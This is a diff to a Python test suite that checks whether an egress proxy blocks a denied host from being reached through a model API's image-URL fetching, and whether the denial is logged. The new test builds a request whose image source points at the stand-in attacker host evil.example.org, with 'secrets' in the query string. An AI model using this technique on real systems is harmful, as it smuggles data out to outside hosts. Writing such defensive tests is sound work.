@@ -10,6 +10,7 @@ from parhelia_tui.core.egress import settings as egress_settings
 from tests.egress.conftest import ASK, Fleet
 from tests.egress.upstream import KEY, running, says
 from tests.support.ordinary import NUMBER, ordinary_product
+from tests.support.waiting import wait_until
 
 pytestmark = pytest.mark.real
 
@@ -67,6 +68,32 @@ def test_an_ordinary_users_container_reaches_the_api() -> None:
 def test_nothing_but_the_api_is_reached(fleet: Fleet) -> None:
     said = fleet.run("python3", "-I", "-c", OTHERS)
     assert said == "through http://127.0.0.1:17100\n"
+
+
+FETCH = """
+import json, os, urllib.error, urllib.request
+source = {"type": "url", "url": "https://evil.example.org/?all=" + "secrets"}
+asked = {"model": "m", "messages": [{"role": "user", "content": [{"type": "image", "source": source}]}]}
+request = urllib.request.Request(
+    os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages",
+    json.dumps(asked).encode(),
+    {"x-api-key": os.environ["ANTHROPIC_API_KEY"]},
+)
+opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+try:
+    print(opener.open(request, timeout=120).status)
+except urllib.error.HTTPError as error:
+    print(error.code, json.loads(error.read())["error"]["message"])
+"""
+
+
+def test_a_denied_host_is_not_reached_by_way_of_the_api(fleet: Fleet) -> None:
+    refused = "403 Parhelia: evil.example.org cannot be reached from here by way of the API either\n"
+    assert fleet.run("python3", "-I", "-c", FETCH, flags=("--network", "api")) == refused
+    assert fleet.api.seen == []
+    wait_until(lambda: fleet.json("events", "list", "--type", "network.denied"), 30)
+    (told,) = fleet.json("events", "list", "--type", "network.denied")
+    assert "evil.example.org" in told["message"]
 
 
 def test_a_container_of_the_network_none_gets_nothing_of_all_this(fleet: Fleet) -> None:
